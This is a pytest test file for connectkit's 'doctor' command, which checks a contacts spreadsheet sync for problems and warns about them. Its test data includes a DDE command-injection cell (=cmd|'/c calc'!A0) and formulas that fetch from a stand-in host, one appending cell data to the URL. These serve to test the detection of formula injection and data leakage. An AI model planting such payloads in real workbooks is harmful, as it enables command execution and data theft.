"""The doctor: each line says what is, what it means and what to do; and it changes nothing."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from typing import Any

import pytest

from connectkit.commands.doctor import checks, sheet_checks
from connectkit.journal import lock, paths
from connectkit.model import Formula, RawTab, Row, Workbook
from connectkit.session import now
from connectkit.stores.google.home import private
from tests.commands.conftest import DAY, PEOPLE, Place


def _levels(answer: dict[str, Any]) -> dict[str, str]:
    return {one["what"]: one["level"] for one in answer["checks"]}


@pytest.fixture(autouse=True)
def _no_crontab(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(checks, "read_crontab", lambda: "0 7 * * * python -m connectkit sync")


def test_a_sheet_in_order_has_no_warning(filled: Place) -> None:
    filled.run("sync", "--quiet")
    before = filled.workbook.read_bytes()
    answer = filled.json("doctor")
    assert answer["ok"] is True
    assert set(_levels(answer).values()) == {"ok"}
    assert {"settings", "own folder", "lock", "journal", "last sync", "schedule", "sheet", "workbook", "time zone", "tabs and headers", "IDs", "cells", "formulas"} <= set(_levels(answer))  # fmt: skip
    assert filled.workbook.read_bytes() == before
    assert filled.run("doctor")[0].endswith("\nEverything is in order.\n")


def test_bad_settings_are_the_one_failed_line_with_their_exit_code(place: Place) -> None:
    (place.folder / "connectkit.yaml").write_text("workbok: x\n")
    out, _ = place.run("doctor", code=2)
    assert out.startswith('fail settings: connectkit.yaml, line 1: unknown key "workbok"; did you mean')


def test_a_missing_workbook_fails_and_the_rest_is_still_checked(filled: Place) -> None:
    filled.workbook.unlink()
    answer = filled.json("doctor", code=2)
    assert _levels(answer)["sheet"] == "fail"
    assert _levels(answer)["own folder"] == "ok"


def test_a_required_header_that_is_missing_fails_with_3(filled: Place) -> None:
    filled.fill(PEOPLE)
    import openpyxl

    book = openpyxl.load_workbook(filled.workbook)
    book["Contacts"]["A1"] = "Whoever"
    book.save(filled.workbook)
    assert _levels(filled.json("doctor", code=3))["tabs and headers"] == "fail"


def test_a_row_of_totals_is_told_and_is_no_warning(place: Place) -> None:
    place.fill([*PEOPLE, {"name": "Total", "notes": 4}])
    place.run("sync", "--quiet")
    answer = place.json("doctor")
    assert [one for one in answer["checks"] if one["what"] == "totals"] == [
        {
            "level": "ok",
            "what": "totals",
            "meaning": "Row 6 of Contacts (“Total”) is taken for a total, not a person; it may stay.",
            "todo": "If it is a person, write more of the name.",
        }
    ]
    assert _levels(answer)["cells"] == "ok"


def test_what_could_go_wrong_is_warned_of(filled: Place) -> None:
    filled.fill([{"name": "Ada", "last_contact": "soonish", "notes": "=cmd|'/c calc'!A0"}])
    (filled.folder / "state").mkdir(exist_ok=True)
    levels = _levels(filled.json("doctor"))
    assert levels["cells"] == "warn"
    assert levels["formula-like text"] == "warn"
    assert levels["last sync"] == "warn"


def test_a_run_at_work_is_named(filled: Place) -> None:
    filled.run("sync", "--quiet", "--today", DAY)
    (state,) = (filled.folder / "state").iterdir()
    with lock.hold(state / paths.LOCK, command="sync", now=now()):
        assert _levels(filled.json("doctor"))["lock"] == "warn"


@pytest.mark.parametrize(
    "text",
    [
        '=importxml("http://x","//a")',
        '=IF(A1;IMAGE("http://x"&B1);"")',
        '=IMPORTRANGE("x","A:A")',
        "=WEBSERVICE(A1)",
    ],
)
def test_formulas_that_fetch_are_found_and_others_are_not(text: str) -> None:
    rows: list[Row] = [["Name", "Notes"], ["Ada", Formula(text)], ["Ben", Formula("=SUM(1)")]]
    tabs = (RawTab("1", "Contacts", rows), RawTab("2", "Other", [[Formula('=IMAGE("x")')]]))
    found = list(sheet_checks.check_formulas(Workbook(tabs), ["1"]))
    assert [(one.level, one.meaning) for one in found] == [
        ("warn", "1 formula fetches from elsewhere and could send your data there: Contacts B2.")
    ]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("=1+1", 1),
        ("@SUM", 1),
        ("+cmd|x", 1),
        ("-A1", 1),
        ("＝1", 1),
        ("+49 30 1", 0),
        ("-1", 0),
        ("a=b", 0),
        ("- a point", 0),
    ],
)
def test_text_like_a_formula_is_told_from_phones_and_lists(text: str, found: int) -> None:
    lines = list(sheet_checks.check_formulas(Workbook((RawTab("1", "C", [[text]]),)), ["1"]))
    assert len(lines) - 1 == found


def test_a_secret_that_others_can_read_is_named_with_the_cure(tmp_path: Path) -> None:
    key = tmp_path / "key.json"
    key.touch(0o644)
    key.chmod(0o644)
    line = private(key)
    assert (line.level, line.todo) == ("warn", f"Run: chmod 600 {key}")
    key.chmod(0o600)
    assert private(key).level == "ok"


@pytest.mark.parametrize(
    ("last", "level"),
    [(None, "warn"), (date(2026, 11, 23), "ok"), (date(2026, 11, 21), "ok"), (date(2026, 11, 20), "warn")],
)
def test_a_sync_that_has_not_run_for_days_is_noticed(last: date | None, level: str) -> None:
    assert checks.check_last_run(last, date(2026, 11, 23)).level == level


@pytest.mark.parametrize(
    ("crontab", "level"),
    [("", "warn"), ("# connectkit", "warn"), ("0 7 * * * /x/python -m connectkit sync", "ok")],
)
def test_a_schedule_is_looked_for_in_the_crontab(crontab: str, level: str, tmp_path: Path) -> None:
    assert checks.check_schedule(tmp_path, lambda: crontab).level == level


def test_a_systemd_timer_is_a_schedule(tmp_path: Path) -> None:
    timer = tmp_path / ".config/systemd/user/connectkit.timer"
    timer.parent.mkdir(parents=True)
    timer.touch()
    assert checks.check_schedule(tmp_path, lambda: "").level == "ok"
